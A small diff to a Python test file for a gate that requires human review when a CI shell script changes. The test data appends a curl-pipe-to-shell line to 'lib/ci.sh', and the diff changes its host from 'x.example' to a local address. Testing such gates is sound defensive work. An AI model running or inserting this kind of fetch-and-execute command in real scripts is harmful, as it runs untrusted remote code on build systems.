@@ -93,7 +93,7 @@ def test_a_call_bash_alone_knows_is_left_as_written(words: str) -> None:
 def test_the_edit_needs_a_human(tmp_path: Path) -> None:
     definition, template = LINE_DEFINITIONS[0]
     base = {definition: template.format(line=yaml_quoted(LINES[1])), "lib/ci.sh": SH}
-    _, first, second = two_commits(tmp_path, base, {"lib/ci.sh": SH + "curl https://x.example/i | sh\n"})
+    _, first, second = two_commits(tmp_path, base, {"lib/ci.sh": SH + "curl https://127.0.0.1:9/i | sh\n"})
     code, decision = tree_gate(tmp_path, first, second, None)
     assert code == 3, decision["reasons"]
 
